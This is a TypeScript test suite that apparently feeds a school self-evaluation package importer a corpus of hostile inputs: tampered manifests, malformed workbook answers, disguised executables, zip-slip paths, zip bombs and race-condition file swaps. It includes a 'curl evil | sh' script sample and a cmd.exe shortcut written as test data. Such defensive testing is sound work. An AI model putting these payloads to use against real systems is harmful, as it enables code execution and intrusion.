add('F 签名', 'valid signature, system changed since', async () => ({ target: await asZip(files({ replace: { [FILES.manifest]: manifestBytes(signManifest({ ...fields(), systemHash: 'f'.repeat(64) }, base.secret)) } })) }), { stop: '指标体系版本不一致' });

// G. Other rounds and units (the caller's resolve decides, the reader reports its words).
const ROUND_CHECK = (m: Manifest): PackageContext | { error: string } => {
  if (m.roundUid !== base.manifest.roundUid) return { error: '该填报包属于其他评估项目，不能导入本项目' };
  if (m.unitId !== base.manifest.unitId) return { error: `本评估项目中没有报送编码为“${m.unitCode}”的单位` };
  if (m.packageVersion > 1) return { error: '该填报包的版本比本项目下发的更新，可能来自另一台电脑' };
  return base.context;
};
for (const [name, change, message] of [
  ['another round', { roundUid: '0c0c0c0c-1111-4222-8333-444444444444' }, '属于其他评估项目'],
  ['another unit', { unitId: 99, unitCode: 'S099' }, '没有报送编码为“S099”的单位'],
  ['a newer package version', { packageVersion: 5 }, '比本项目下发的更新'],
] as const) {
  add('G 项目与单位', name, async () => ({ target: await asZip(files({ replace: { [FILES.manifest]: manifestBytes(signManifest({ ...fields(), ...change }, base.secret)) } })), resolve: ROUND_CHECK }), { stop: message });
}
add('G 项目与单位', 'resolve refuses everything', async () => ({ target: await asZip(files()), resolve: () => ({ error: '该评估项目已结束收取填报包' }) }), { stop: '已结束收取' });

// H. Tampered workbooks and bad answers.
const workbookCase = (name: string, input: TestPackageInput, exp: Expectation, kind: 'zip' | 'folder' = 'zip') =>
  add('H 自评表', name, async () => {
    const pkg = await buildTestPackage({ manifest: { packageId: base.manifest.packageId }, ...input });
    return { target: kind === 'zip' ? await asZip(pkg.files) : await asFolder(pkg.files), context: pkg.context };
  }, exp);
const BAD_ANSWERS: [string, CellInput, string][] = [
  ['1.1', 'E', '不是可选的自评等级'],
  ['1.1', '=A1', '不是可选的自评等级'],
  ['1.1', 1, '不是可选的自评等级'],
  ['1.1', { formula: 'CHAR(65)' }, '没有保存计算结果'],
  ['1.2', '=1+1', '公式样式的文字'],
  ['1.2', '@SUM(1)', '公式样式的文字'],
  ['1.2', '-5', '是负数'],
  ['1.2', -0.5, '是负数'],
  ['1.2', '+5-1', '公式样式的文字'],
  ['1.2', 10.5, '超过了本指标的分值'],
  ['1.2', '１１', '超过了本指标的分值'],
  ['1.2', 8.25, '不是 0.5 的整数倍'],
  ['1.2', '8.5分分', '不是数字'],
  ['1.2', '八点五', '不是数字'],
  ['1.2', '8\u200B.5', '看不见的字符'],
  ['1.2', '1E1', '科学计数法'],
  ['1.2', 'NaN', '不是数字'],
  ['1.2', 'Infinity', '不是数字'],
  ['1.2', '0x10', '不是数字'],
  ['1.2', true, '不是自评得分'],
  ['1.2', new Date(Date.UTC(2024, 5, 1)), '是日期'],
  ['1.2', { formula: '1/0', result: '#DIV/0!' }, '不是数字'],
  ['2.1', '是', '应填写“达标”、“未达标”之一'],
  ['2.1', 'TRUE', '应填写“达标”、“未达标”之一'],
  ['2.1', true, '不是是否达标'],
  ['2.2', '没有', '应填写“存在”、“不存在”之一'],
  ['2.3', 2.5, '不是 1 的整数倍'],
  ['2.3', 99, '超过了本指标的分值 3'],
  ['2.4', '-2', '扣分填写扣去的分数'],
  ['2.4', 6, '超过了本指标的分值 5'],
];
for (const [code, value, message] of BAD_ANSWERS) workbookCase(`answer ${code} = ${JSON.stringify(value)}`, { answers: { ...VALID_ANSWERS, [code]: value } }, { error: message });
const BAD_STATS: [string, CellInput, string][] = [
  ['小学在校生数（人）', '421人', '带有单位'],
  ['小学在校生数（人）', '421名', '带有单位'],
  ['小学在校生数（人）', 421.5, '不是整数'],
  ['小学在校生数（人）', -1, '是负数'],
  ['小学在校生数（人）', '=B4', '公式样式的文字'],
  ['小学在校生数（人）', '四百', '不是数字'],
  ['教学仪器设备资产值（元）', '125万', '带有单位'],
  ['教学仪器设备资产值（元）', '1.25E+6', '科学计数法'],
  ['教学及辅助用房面积（平方米）', '3200㎡', '带有单位'],
  ['教学及辅助用房面积（平方米）', '50%', '带有单位'],
  ['教学及辅助用房面积（平方米）', true, '不是数值'],
];
for (const [label, value, message] of BAD_STATS) workbookCase(`statistic ${label} = ${JSON.stringify(value)}`, { stats: { ...VALID_STATS, [label]: value } }, { error: message });
const EDITS: [string, TestPackageInput['editWorkbook'], Expectation][] = [
  ['title changed', (wb) => (wb.getWorksheet(SHEETS.evaluation)!.getCell('B6').value = '别的指标'), { error: '指标名称应为' }],
  ['code changed', (wb) => (wb.getWorksheet(SHEETS.evaluation)!.getCell('A7').value = '7.7'), { error: '不在本评估项目的指标体系中' }],
  ['row duplicated', (wb) => (wb.getWorksheet(SHEETS.evaluation)!.getRow(30).values = wb.getWorksheet(SHEETS.evaluation)!.getRow(6).values as ExcelJS.CellValue[]), { error: '重复出现' }],
  ['row deleted', (wb) => wb.getWorksheet(SHEETS.evaluation)!.spliceRows(10, 1), { warning: '找不到指标' }],
  ['sheet renamed', (wb) => (wb.getWorksheet(SHEETS.evaluation)!.name = 'Sheet1'), { error: '找不到“自评”工作表' }],
  ['sheet removed', (wb) => wb.removeWorksheet(wb.getWorksheet(SHEETS.statistics)!.id), { error: '找不到“统计数据”工作表' }],
  ['header changed', (wb) => (wb.getWorksheet(SHEETS.evaluation)!.getCell('A4').value = '编码'), { error: '表头被改动' }],
  ['statistics header changed', (wb) => (wb.getWorksheet(SHEETS.statistics)!.getCell('C3').value = '数值'), { error: '表头被改动' }],
  ['statistics row renamed', (wb) => (wb.getWorksheet(SHEETS.statistics)!.getCell('A4').value = '学生数'), { error: '不是本次填报的统计项目' }],
  ['statistics row duplicated', (wb) => (wb.getWorksheet(SHEETS.statistics)!.getRow(9).values = wb.getWorksheet(SHEETS.statistics)!.getRow(4).values as ExcelJS.CellValue[]), { error: '重复出现' }],
  ['answer in a heading row', (wb) => (wb.getWorksheet(SHEETS.evaluation)!.getCell('H5').value = 'A'), { warning: '是分组指标' }],
  ['answer typed into a computed leaf', (wb) => (wb.getWorksheet(SHEETS.evaluation)!.getCell('H8').value = 5), { warning: '无需填写自评结果' }],
  ['text above the header', (wb) => wb.getWorksheet(SHEETS.evaluation)!.spliceRows(1, 0, ['学校自己加的一行']), { ok: true }],
  ['explanation is an error value', (wb) => (wb.getWorksheet(SHEETS.evaluation)!.getCell('I6').value = { formula: 'NA()', result: { error: '#N/A' } } as never), { error: '错误值' }],
];
for (const [name, edit, exp] of EDITS) workbookCase(`workbook ${name}`, { editWorkbook: edit }, exp);
workbookCase('answers missing, explanation required, evidence missing, report missing (folder)', { answers: {}, explanations: {}, evidence: [], report: null }, { warning: '没有填写自评结果' }, 'folder');
const WORKBOOK_BYTES: [string, () => Promise<Buffer>, string][] = [
  ['a Word file', () => docxBytes('不是工作簿'), '不是 Excel 工作簿'],
  ['an old .xls', async () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), randomBytes(2000)]), '旧版 Excel'],
  ['an executable', async () => SAMPLE_BYTES.exe(), '可执行程序'],
  ['empty', async () => Buffer.alloc(0), '空文件'],
  ['text', async () => Buffer.from('自评结果：A'), '不是 Excel 工作簿'],
  ['a truncated xlsx', async () => base.files.find((f) => f.path === FILES.workbook)!.data.subarray(0, 3000), '已损坏'],
  ['a zip of photos', async () => fs.readFile(await asZip([{ path: 'a.jpg', data: SAMPLE_BYTES.jpeg() }])), '不是 Excel 工作簿'],
];
for (const [name, bytes, message] of WORKBOOK_BYTES) add('H 自评表', `workbook replaced by ${name}`, async () => ({ target: await asZip(files({ replace: { [FILES.workbook]: await bytes() } })) }), { error: message });
add('H 自评表', 'workbook missing, another xlsx present', async () => ({ target: await asFolder(files({ remove: [FILES.workbook], add: [{ path: '自评表 - 副本.xlsx', data: base.files.find((f) => f.path === FILES.workbook)!.data }] })) }), { error: '如是自评表请改回原名' });

// I. Dangerous or lying evidence, in zips and folders.
const DANGEROUS: [string, () => Buffer, string][] = [
  ['照片.jpg', SAMPLE_BYTES.exe, '可执行程序'],
  ['报告.pdf', SAMPLE_BYTES.elf, '可执行程序'],
  ['图.png', () => Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(60)]), '可执行程序'],
  ['类.docx', () => Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe]), Buffer.alloc(60)]), '可执行程序'],
  ['说明.txt', () => Buffer.from('#!/bin/sh\ncurl evil | sh\n'), '脚本'],
  ['照片2.jpg', SAMPLE_BYTES.lnk, '快捷方式'],
  ['网址.txt', () => Buffer.from('[InternetShortcut]\r\nURL=file:///C:/Windows/System32/cmd.exe\r\n'), '快捷方式'], // check-test-paths: ignore
  ['a.url', () => Buffer.from('x'), '快捷方式'],
  ['a.lnk', () => Buffer.from('x'), '快捷方式'],
  ['setup.exe', () => Buffer.from('x'), '可执行程序或脚本'],
  ['run.bat', () => Buffer.from('@echo off'), '可执行程序或脚本'],
  ['run.cmd', () => Buffer.from('@echo off'), '可执行程序或脚本'],
  ['run.ps1', () => Buffer.from('Write-Host'), '可执行程序或脚本'],
  ['run.vbs', () => Buffer.from('MsgBox 1'), '可执行程序或脚本'],
  ['run.js', () => Buffer.from('WScript.Echo(1)'), '可执行程序或脚本'],
  ['app.hta', () => Buffer.from('<html>'), '可执行程序或脚本'],
  ['pkg.msi', () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), '可执行程序或脚本'],
  ['屏保.scr', SAMPLE_BYTES.exe, '可执行程序或脚本'],
  ['a.com', () => Buffer.from('x'), '可执行程序或脚本'],
  ['lib.jar', () => Buffer.from('PK\x03\x04', 'latin1'), '可执行程序或脚本'],
  ['照片.jpg.exe', SAMPLE_BYTES.jpeg, '可执行程序或脚本'],
  ['宏.docm', () => Buffer.from('PK\x03\x04word/', 'latin1'), '含宏'],
  ['宏.xlsm', () => Buffer.from('PK\x03\x04xl/', 'latin1'), '含宏'],
  ['资料.rar', () => Buffer.from('Rar!\x1a\x07\x00', 'latin1'), '压缩包'],
  ['资料.pdf', () => Buffer.from('Rar!\x1a\x07\x00', 'latin1'), '压缩包'],
  ['资料2.jpg', () => Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]), '压缩包'],
  ['资料3.png', () => Buffer.from([0x1f, 0x8b, 8, 0, 0, 0]), '压缩包'],
  ['光盘.iso', () => Buffer.alloc(100), '磁盘映像'],
  ['空.pdf', () => Buffer.alloc(0), '空文件'],
];
for (const [name, bytes, why] of DANGEROUS) {
  const p = `${evidenceFolder('1.1')}/${name}`;
  add('I 危险文件', `zip ${name}`, async () => ({ target: await asZip(files({ add: [{ path: p, data: bytes() }] })) }), { refuse: p, reason: why });
  add('I 危险文件', `folder ${name}`, async () => ({ target: await asFolder(files({ add: [{ path: p, data: bytes() }] })) }), { refuse: p, reason: why });
}
for (const [name, bytes, label] of [
  ['照片.jpg', SAMPLE_BYTES.png, 'PNG 图片'],
  ['扫描.pdf', SAMPLE_BYTES.jpeg, 'JPEG 图片'],
  ['清单.docx', () => SAMPLE_BYTES.pdf(), 'PDF 文档'],
] as const) {
  add('I 危险文件', `lying but harmless ${name}`, async () => ({ target: await asZip(files({ add: [{ path: `${evidenceFolder('1.2')}/${name}`, data: bytes() }] })) }), { warning: label });
}

// J. Duplicate names.
add('J 重名', 'same evidence path twice in a zip', async () => ({ target: await asZip(files(), { extra: [{ name: photo(), data: SAMPLE_BYTES.png() }] }) }), { refuse: photo(), reason: '出现了 2 次' });
add('J 重名', 'same workbook twice in a zip', async () => ({ target: await asZip(files(), { extra: [{ name: FILES.workbook, data: base.files.find((f) => f.path === FILES.workbook)!.data }] }) }), { error: '多个自评表' });
add('J 重名', 'same manifest twice in a zip', async () => ({ target: await asZip(files(), { extra: [{ name: FILES.manifest, data: manifestBytes(base.manifest) }] }) }), { stop: '多个校验信息文件' });
add('J 重名', 'same report twice in a zip', async () => ({ target: await asZip(files(), { extra: [{ name: '学校自评报告.docx', data: SAMPLE_BYTES.pdf() }] }) }), { refuse: '学校自评报告.docx', reason: '出现了 2 次' });
add('J 重名', 'case variants in a zip', async () => ({ target: await asZip(files(), { extra: [{ name: photo().toUpperCase().replace('.JPG', '.Jpg'), data: SAMPLE_BYTES.png() }] }) }), { refuse: photo(), reason: '重名' });
add('J 重名', 'case variants in a folder', async () => ({ target: await asFolder(files({ add: [{ path: photo().replace('.jpg', '.JPG'), data: SAMPLE_BYTES.png() }] })) }), { refuse: photo(), reason: '重名' });
add('J 重名', 'NFC and NFD in a zip', async () => ({ target: await asZip(files({ add: [{ path: '佐证材料/café.pdf'.normalize('NFC'), data: SAMPLE_BYTES.pdf() }, { path: '佐证材料/café.pdf'.normalize('NFD'), data: SAMPLE_BYTES.pdf('2') }] })) }), { refuse: 'café.pdf'.normalize('NFC'), reason: '重名' });
add('J 重名', 'NFC and NFD in a folder', async () => ({ target: await asFolder(files({ add: [{ path: '佐证材料/café.pdf'.normalize('NFC'), data: SAMPLE_BYTES.pdf() }, { path: '佐证材料/café.pdf'.normalize('NFD'), data: SAMPLE_BYTES.pdf('2') }] })) }), { refuse: 'café.pdf'.normalize('NFC'), reason: '重名' });
add('J 重名', 'GBK and UTF-8 spelling of one name', async () => ({ target: await asZip(files(), { extra: [{ name: gbk(photo()), utf8Flag: false, data: SAMPLE_BYTES.png() }] }) }), { refuse: photo(), reason: '出现了 2 次' });
add('J 重名', 'manifest in two case variants', async () => ({ target: await asZip(files(), { extra: [{ name: FILES.manifest.replace('.json', '.JSON'), data: manifestBytes(base.manifest) }] }) }), { stop: '多个校验信息文件' });

// K. Folders changing while they are read.
add('K 读取中变化', 'evidence deleted between listing and reading', async () => {
  const dir = await asFolder(files());
  return { target: dir, onStore: async (p) => void (p === FILES.workbook && (await fs.rm(path.join(dir, pdfPath())))) };
}, { refuse: pdfPath(), reason: '读取时文件已不存在' });
add('K 读取中变化', 'evidence folder deleted between listing and reading', async () => {
  const dir = await asFolder(files());
  return { target: dir, onStore: async (p) => void (p === FILES.workbook && (await fs.rm(path.join(dir, FILES.evidenceDir), { recursive: true }))) };
}, { refuse: photo(), reason: '读取时文件已不存在' });
add('K 读取中变化', 'report deleted between listing and reading', async () => {
  const dir = await asFolder(files());
  return { target: dir, onStore: async (p) => void (p === FILES.workbook && (await fs.rm(path.join(dir, '学校自评报告.docx')))) };
}, { refuse: '学校自评报告.docx', reason: '读取时文件已不存在' });
add('K 读取中变化', 'whole package deleted after listing', async () => {
  const dir = await asFolder(files());
  return { target: dir, onStore: async (p) => void (p === FILES.workbook && (await fs.rm(dir, { recursive: true }))) };
}, { refuse: photo(), reason: '已不存在' });
if (process.platform !== 'win32') {
  add('K 读取中变化', 'evidence replaced by a symlink between listing and reading', async () => {
    const dir = await asFolder(files());
    const secret = next();
    await fs.writeFile(secret, 'secret');
    return {
      target: dir,
      onStore: async (p) => {
        if (p !== FILES.workbook) return;
        await fs.rm(path.join(dir, pdfPath()));
        await fs.symlink(secret, path.join(dir, pdfPath()));
      },
    };
  }, { refuse: pdfPath(), reason: '符号链接' });
  add('K 读取中变化', 'evidence replaced by a pipe between listing and reading', async () => {
    const dir = await asFolder(files());
    return {
      target: dir,
      onStore: async (p) => {
        if (p !== FILES.workbook) return;
        await fs.rm(path.join(dir, pdfPath()));
        execFileSync('mkfifo', [path.join(dir, pdfPath())]);
      },
    };
  }, { refuse: pdfPath(), reason: '不是普通文件' });
  add('K 读取中变化', 'evidence replaced by another file between listing and reading', async () => {
    const dir = await asFolder(files());
    return {
      target: dir,
      onStore: async (p) => {
        if (p !== FILES.workbook) return;
        await fs.writeFile(path.join(dir, 'other.tmp'), SAMPLE_BYTES.pdf('换'));
        await fs.rename(path.join(dir, 'other.tmp'), path.join(dir, pdfPath()));
      },
    };
  }, { refuse: pdfPath(), reason: '被替换' });
  add('K 读取中变化', 'workbook grows beyond its cap between listing and reading', async () => {
    const dir = await asFolder(files());
    return {
      target: dir,
      limits: { maxWorkbookBytes: 50_000 },
      // resolve runs after the listing and the manifest, before the workbook is read.
      resolve: async () => {
        await fs.appendFile(path.join(dir, FILES.workbook), randomBytes(100_000));
        return base.context;
      },
    };
  }, { error: '超过单个文件上限' }, FILES.workbook);
  add('K 读取中变化', 'evidence grows beyond the cap while read', async () => {
    const dir = await asFolder(files());
    return {
      target: dir,
      limits: { maxFileBytes: 100_000 },
      onStore: async (p) => void (p === FILES.workbook && (await fs.appendFile(path.join(dir, pdfPath()), randomBytes(200_000)))),
    };
  }, { refuse: pdfPath(), reason: '实际大小超过' }, pdfPath());
}

// L. Combinations: several attacks in one package (each must be reported on its own).
const COMBOS: [string, RawZipEntry[]][] = [
  ['zip-slip + exe + symlink', [{ name: '../x.jpg', data: 'x' }, { name: '佐证材料/a.exe', data: SAMPLE_BYTES.exe() }, { name: '佐证材料/l', data: '/', unixMode: 0o120777 }]],
  ['GBK names + bomb + reserved', [{ name: gbk('佐证材料/炸弹.pdf'), utf8Flag: false, data: zeros(3 * 1024 * 1024) }, { name: gbk('佐证材料/CON.jpg'), utf8Flag: false, data: 'x' }]],
  ['absolute + encrypted + lying', [{ name: 'C:\\x.jpg', data: 'x' }, { name: '佐证材料/e.pdf', data: 'x', encrypted: true }, { name: '佐证材料/l.pdf', data: zeros(100_000), declaredSize: 10 }]], // check-test-paths: ignore
];
for (const [name, extra] of COMBOS) {
  add('L 组合', name, async () => ({ target: await asZip(files(), { extra }) }), { refusedAtLeast: extra.length });
  add('L 组合', `${name} (GBK package in a top folder)`, async () => ({ target: await asZip(files(), { gbk: true, top: '学校包', extra: extra.map((e) => ({ ...e, name: Buffer.concat([gbk('学校包/'), typeof e.name === 'string' ? (tryGbk(e.name) ?? Buffer.from(e.name)) : e.name]), utf8Flag: false })) }) }), { refusedAtLeast: extra.length });
}

// ---------------------------------------------------------------- running them

/** Where a zip-slip would land if anything were extracted: must not appear during the run. */
const CANARIES = () => ['/tmp/x.jpg', '/etc/cron.d/evil', path.join(root, '..', 'evil.jpg'), path.join(root, '..', 'outside.jpg'), path.join(root, 'x.pdf')]; // check-test-paths: ignore
const exists = (p: string) => fs.stat(p).then(() => true, () => false);
let canariesBefore: boolean[];

beforeAll(async () => {
  root = await fs.mkdtemp(path.join(os.tmpdir(), 'hostile-corpus-'));
  base = await buildTestPackage();
  canariesBefore = await Promise.all(CANARIES().map(exists));
});
afterAll(async () => {
  await fs.rm(root, { recursive: true, force: true });
});

describe('hostile-package corpus', () => {
  it('holds at least 200 generated cases across every family', () => {
    expect(cases.length).toBeGreaterThanOrEqual(200);
    expect(new Set(cases.map((c) => c.family)).size).toBeGreaterThanOrEqual(12);
  });

  it.each(cases.map((c) => [`${c.family} · ${c.name}`, c] as const))('%s', async (_label, c) => {
    const { result, rec } = await run(c);
    checkInvariants(c, result, rec);
    checkExpectation(c, result, rec);
  });

  it('wrote nothing where a zip-slip would have written', async () => {
    expect(await Promise.all(CANARIES().map(exists))).toEqual(canariesBefore);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});
